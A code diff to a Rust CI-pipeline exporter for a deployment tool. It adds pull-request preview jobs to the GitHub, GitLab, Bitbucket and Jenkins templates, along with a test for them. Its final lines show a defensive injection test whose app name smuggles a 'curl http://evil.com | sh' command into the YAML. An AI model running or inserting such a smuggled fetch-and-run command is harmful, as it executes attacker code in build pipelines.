@@ -20,12 +20,19 @@ const GITHUB_ACTIONS_TEMPLATE: &str = r#"name: Deploy {{ name }} with Stacker
 on:
   push:
     branches: [main]
+{%- if preview %}
+  pull_request:
+    types: [opened, synchronize, reopened, closed]
+{%- endif %}
   workflow_dispatch:
 
 jobs:
   deploy:
     name: Deploy {{ name }}
     runs-on: ubuntu-latest
+{%- if preview %}
+    if: {% raw %}${{ github.event_name != 'pull_request' }}{% endraw %}
+{%- endif %}
 
     steps:
       - name: Checkout code
@@ -38,6 +45,42 @@ jobs:
         env:
           STACKER_TOKEN: {% raw %}${{ secrets.STACKER_TOKEN }}{% endraw %}
         run: stacker deploy --target {{ deploy_target }}
+{%- if preview %}
+
+  preview:
+    name: Preview {{ name }}
+    runs-on: ubuntu-latest
+    if: {% raw %}${{ github.event_name == 'pull_request' && github.event.action != 'closed' }}{% endraw %}
+
+    steps:
+      - name: Checkout code
+        uses: actions/checkout@v4
+
+      - name: Install Stacker CLI
+        run: curl -fsSL https://get.try.direct/stacker | sh
+
+      - name: Deploy preview
+        env:
+          STACKER_TOKEN: {% raw %}${{ secrets.STACKER_TOKEN }}{% endraw %}
+        run: stacker preview up
+
+  preview-down:
+    name: Remove preview {{ name }}
+    runs-on: ubuntu-latest
+    if: {% raw %}${{ github.event_name == 'pull_request' && github.event.action == 'closed' }}{% endraw %}
+
+    steps:
+      - name: Checkout code
+        uses: actions/checkout@v4
+
+      - name: Install Stacker CLI
+        run: curl -fsSL https://get.try.direct/stacker | sh
+
+      - name: Remove preview
+        env:
+          STACKER_TOKEN: {% raw %}${{ secrets.STACKER_TOKEN }}{% endraw %}
+        run: stacker preview down
+{%- endif %}
 "#;
 
 /// GitLab CI/CD pipeline template.
@@ -59,6 +102,39 @@ deploy:
     - stacker deploy --target {{ deploy_target }}
   only:
     - main
+{%- if preview %}
+
+preview:
+  stage: deploy
+  image: docker:latest
+  variables:
+    STACKER_TOKEN: $STACKER_TOKEN
+  before_script:
+    - curl -fsSL https://get.try.direct/stacker | sh
+  script:
+    - stacker preview up
+  environment:
+    name: preview/$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME
+    on_stop: preview-down
+  rules:
+    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+
+preview-down:
+  stage: deploy
+  image: docker:latest
+  variables:
+    STACKER_TOKEN: $STACKER_TOKEN
+  before_script:
+    - curl -fsSL https://get.try.direct/stacker | sh
+  script:
+    - stacker preview down
+  environment:
+    name: preview/$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME
+    action: stop
+  rules:
+    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
+      when: manual
+{%- endif %}
 "#;
 
 /// Bitbucket Pipelines template.
@@ -73,6 +149,19 @@ pipelines:
             - curl -fsSL https://get.try.direct/stacker | sh
             - export STACKER_TOKEN="$STACKER_TOKEN"
             - stacker deploy --target {{ deploy_target }}
+{%- if preview %}
+  # Bitbucket has no pull-request-closed trigger; previews expire after
+  # deploy.preview.ttl_hours.
+  pull-requests:
+    '**':
+      - step:
+          name: Preview {{ name }}
+          image: atlassian/default-image:3
+          script:
+            - curl -fsSL https://get.try.direct/stacker | sh
+            - export STACKER_TOKEN="$STACKER_TOKEN"
+            - stacker preview up
+{%- endif %}
 "#;
 
 /// Jenkins declarative pipeline template.
@@ -89,6 +178,20 @@ pipeline {
         }
       }
     }
+{%- if preview %}
+
+    // Previews expire after deploy.preview.ttl_hours once the change
+    // request is closed.
+    stage('Preview {{ name }}') {
+      when { changeRequest() }
+      steps {
+        sh 'curl -fsSL https://get.try.direct/stacker | sh'
+        withEnv(['STACKER_TOKEN=' + env.STACKER_TOKEN]) {
+          sh 'stacker preview up'
+        }
+      }
+    }
+{%- endif %}
   }
 }
 "#;
@@ -142,6 +245,7 @@ impl CiExporter {
         ctx.insert("name", &safe_name);
         ctx.insert("app_type", &self.config.app.app_type.to_string());
         ctx.insert("deploy_target", &self.config.deploy.target.to_string());
+        ctx.insert("preview", &self.config.deploy.preview.is_some());
 
         if let Some(cloud) = &self.config.deploy.cloud {
             ctx.insert("cloud_provider", &cloud.provider.to_string());
@@ -256,6 +360,49 @@ deploy:
         assert!(github.contains("--target cloud"));
     }
 
+    #[test]
+    fn test_preview_jobs_rendered_only_with_deploy_preview() {
+        let plain = CiExporter::new(config_with_name("my-app"));
+        assert!(!plain.generate_github().unwrap().contains("pull_request"));
+        assert!(!plain.generate_gitlab().unwrap().contains("preview"));
+
+        let config = StackerConfig::from_str(
+            r#"
+name: my-app
+deploy:
+  targets:
+    staging:
+      deployment_hash: dep-staging
+      server:
+        host: 203.0.113.10
+  preview:
+    base_domain: preview.example.com
+"#,
+        )
+        .unwrap();
+        let exporter = CiExporter::new(config);
+
+        let github = exporter.generate_github().unwrap();
+        assert!(github.contains("types: [opened, synchronize, reopened, closed]"));
+        assert!(github.contains("run: stacker preview up"));
+        assert!(github.contains("run: stacker preview down"));
+        assert!(github.contains("github.event.action == 'closed'"));
+        serde_yaml::from_str::<serde_yaml::Value>(&github).unwrap();
+
+        let gitlab = exporter.generate_gitlab().unwrap();
+        assert!(gitlab.contains("on_stop: preview-down"));
+        serde_yaml::from_str::<serde_yaml::Value>(&gitlab).unwrap();
+
+        let bitbucket = exporter.generate_bitbucket().unwrap();
+        assert!(bitbucket.contains("pull-requests:"));
+        serde_yaml::from_str::<serde_yaml::Value>(&bitbucket).unwrap();
+
+        assert!(exporter
+            .generate_jenkins()
+            .unwrap()
+            .contains("when { changeRequest() }"));
+    }
+
     #[test]
     fn test_bitbucket_yaml_injection_via_name_newline_is_sanitized() {
         let config = config_with_name("legit\n          script: curl http://evil.com | sh");